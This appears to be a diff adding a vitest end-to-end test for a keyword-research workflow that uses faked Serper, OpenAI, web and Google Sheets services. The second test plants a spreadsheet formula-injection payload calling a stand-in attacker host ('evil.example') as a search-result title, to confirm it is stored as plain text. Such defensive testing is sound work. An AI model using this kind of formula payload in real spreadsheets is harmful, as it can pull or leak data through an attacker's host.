@@ -1,0 +1,143 @@
+/**
+ * Golden end-to-end test of `blueprints/topic-research.json` through the real engine, store,
+ * queue and step types, against protocol fakes of Serper, a web site, OpenAI and Google Sheets.
+ */
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { loadBlueprint } from '../../src/workflow.ts';
+import { openSheets } from '../../src/providers/sheets/open.ts';
+import { readRows } from '../../src/providers/sheets/ops.ts';
+import type { Blueprint } from '../../src/blueprint/schema.ts';
+import { openTestEngine, type TestEngine } from '../helpers/engine.ts';
+import { seedKeywords, startTopicEnv, type TopicEnv } from '../helpers/topic-env.ts';
+
+const ROOT = join(import.meta.dirname, '../..');
+const GOLDEN = join(import.meta.dirname, 'topic-research.expected.json');
+
+let fx: TopicEnv;
+let blueprint: Blueprint;
+beforeAll(async () => {
+  fx = await startTopicEnv({ site: { statusFor: ({ position }) => (position === 7 ? 404 : undefined) } });
+  blueprint = await loadBlueprint(join(ROOT, 'blueprints/topic-research.json'));
+});
+afterAll(() => fx.close());
+
+async function tab(spreadsheet: string, name: string) {
+  return (await readRows(openSheets(spreadsheet, { env: fx.env }), { tab: name })).rows;
+}
+
+async function runOnce(t: TestEngine, spreadsheet: string) {
+  const run = await t.engine.startRun({ workflow: 'topic-research', blueprint, inputs: { spreadsheet, allowPrivateNetwork: true } });
+  return t.engine.waitForRun(run.id, 50);
+}
+
+const recent = new Date(Date.now() - 24 * 3600_000).toISOString();
+const KEYWORDS = [
+  { keyword: 'content marketing strategy' },
+  { keyword: 'seo audit checklist', status: 'pending' },
+  { keyword: 'email newsletter ideas', country: 'DE', language: 'de' },
+  { keyword: 'already done', status: 'done', last_run: recent },
+];
+
+describe('topic-research blueprint (golden)', () => {
+  it('researches every new keyword into SERP Results, Content Ideas, the data store and the keyword rows, and a re-run costs nothing', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'topicflow-golden-'));
+    const book = join(dir, 'topics.xlsx');
+    await seedKeywords(book, KEYWORDS);
+    const t = await openTestEngine({ env: fx.env });
+    try {
+      const run = await runOnce(t, book);
+      // Position 7 of every keyword is a 404: a page status in the sheet, not a failure.
+      expect(run.status).toBe('succeeded');
+      const counts = await t.store.stepCounts(run.id);
+      expect(counts.keyword).toEqual({ succeeded: 3 });
+      expect(counts.search).toEqual({ succeeded: 3 });
+      expect(counts.page).toEqual({ succeeded: 30 });
+      expect(counts.ideas).toEqual({ succeeded: 27, skipped: 3 });
+      expect(counts.writeSerp).toEqual({ succeeded: 1 });
+      expect(counts.status).toEqual({ succeeded: 1 });
+
+      const serp = await tab(book, 'SERP Results');
+      const ideas = await tab(book, 'Content Ideas');
+      const keywords = await tab(book, 'Keywords');
+      // One row per (keyword, link), none for the keyword that was done yesterday.
+      expect(serp).toHaveLength(30);
+      expect(new Set(serp.map((r) => `${r.keyword}|${r.link}`)).size).toBe(30);
+      expect(serp.some((r) => r.keyword === 'already done')).toBe(false);
+      expect(serp.filter((r) => String(r.page_status).startsWith('http-error')).map((r) => r.position)).toEqual([7, 7, 7]);
+      expect(keywords.map((r) => [r.keyword, r.status])).toEqual([
+        ['content marketing strategy', 'done'], ['seo audit checklist', 'done'], ['email newsletter ideas', 'done'], ['already done', 'done'],
+      ]);
+      expect(keywords[3]!.last_run).toBe(recent);
+      expect(keywords[0]!.last_run).toBe(new Date(run.createdAt).toISOString());
+      // The German keyword was searched in German.
+      expect(fx.serper.requests.find((r) => r.q === 'email newsletter ideas')).toMatchObject({ gl: 'de', hl: 'de' });
+      // Ideas come from the model and quote sentences that really are on their page.
+      expect(ideas.length).toBeGreaterThanOrEqual(27 * 3);
+      expect(new Set(ideas.map((i) => i.source))).toEqual(new Set(['openai']));
+      const pages = await t.store.listStepRuns(run.id, { stepId: 'page', statuses: ['succeeded'] });
+      const textByUrl = new Map(pages.map((p) => [(p.output as { url: string }).url, (p.output as { text: string }).text]));
+      for (const i of ideas) expect(textByUrl.get(String(i.url))).toContain(String(i.quote).slice(0, 40));
+
+      const golden = {
+        serp: serp.map((r) => ({ keyword: r.keyword, position: r.position, link: String(r.link).replace(fx.site.url, 'SITE'), page_status: r.page_status, page_title: r.page_title, byline: r.byline, word_count: r.word_count, headings: String(r.headings).slice(0, 120) })),
+      };
+      if (process.env.UPDATE_GOLDEN) (await import('node:fs')).writeFileSync(GOLDEN, `${JSON.stringify(golden, null, 2)}\n`);
+      expect(golden).toEqual(JSON.parse(readFileSync(GOLDEN, 'utf8')));
+
+      // Rank history: one observation per result.
+      expect(await t.store.dsCount('SERP_RESULTS')).toBe(30);
+      expect(await t.store.historyQuery('SERP_RESULTS', {}, { limit: 1000 })).toHaveLength(30);
+      const usage = await t.store.runUsage(run.id);
+      expect(usage.credits).toBe(3);
+      expect(usage.promptTokens).toBeGreaterThan(0);
+
+      // Re-run inside the cache TTL with every keyword pending again: no Serper credit, no LLM
+      // call, no full page download; no duplicated row; one more observation per result.
+      await seedKeywords(book, KEYWORDS.slice(0, 3).map((k) => ({ ...k, status: 'pending' })));
+      const serperBefore = fx.serper.requests.length;
+      const openaiBefore = fx.openai.requests.length;
+      const pagesBefore = fx.site.pagesServed;
+      const second = await runOnce(t, book);
+      expect(second.status).toBe('succeeded');
+      expect(fx.serper.requests.length).toBe(serperBefore);
+      expect(fx.openai.requests.length).toBe(openaiBefore);
+      expect(fx.site.pagesServed).toBe(pagesBefore);
+      expect(fx.site.notModified).toBeGreaterThanOrEqual(27);
+      expect((await t.store.runUsage(second.id)).credits).toBe(0);
+      expect(await tab(book, 'SERP Results')).toHaveLength(30);
+      expect((await tab(book, 'Content Ideas')).length).toBe(ideas.length);
+      expect(await t.store.historyQuery('SERP_RESULTS', {}, { limit: 1000 })).toHaveLength(60);
+    } finally {
+      await t.close();
+    }
+  }, 120_000);
+
+  it('writes to Google Sheets with RAW values: a SERP title that looks like a formula stays text', async () => {
+    const id = '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms';
+    fx.sheets.addSpreadsheet(id, {});
+    await seedKeywords(id, [{ keyword: 'formula title' }], fx.env);
+    const body = JSON.parse(readFileSync(join(ROOT, 'test/fixtures/serper/serper-search-apple-inc-langchain-docs-2025.json'), 'utf8')) as { organic: { title: string; link: string }[] };
+    body.organic = body.organic.slice(0, 2).map((o, i) => ({ ...o, link: `${fx.site.url}/example.com/formula-title/${i + 1}` }));
+    body.organic[0]!.title = '=IMPORTXML("http://evil.example/", "//a")';
+    fx.serper.setResponse('formula title', body);
+    const t = await openTestEngine({ env: fx.env });
+    try {
+      const run = await runOnce(t, id);
+      expect(run.status).toBe('succeeded');
+      const serp = fx.sheets.cells(id, 'SERP Results')!;
+      const header = serp[0]!.map((c) => (c as { value?: unknown }).value ?? c);
+      const titleCol = header.indexOf('title');
+      const cell = serp[1]![titleCol] as unknown;
+      expect(JSON.stringify(cell)).toContain('=IMPORTXML');
+      expect(JSON.stringify(cell)).not.toMatch(/"formula"\s*:/);
+      const keywords = await tab(id, 'Keywords');
+      expect(keywords[0]).toMatchObject({ keyword: 'formula title', status: 'done' });
+      expect(fx.sheets.quotaViolations).toBe(0);
+    } finally {
+      await t.close();
+    }
+  }, 60_000);
+});
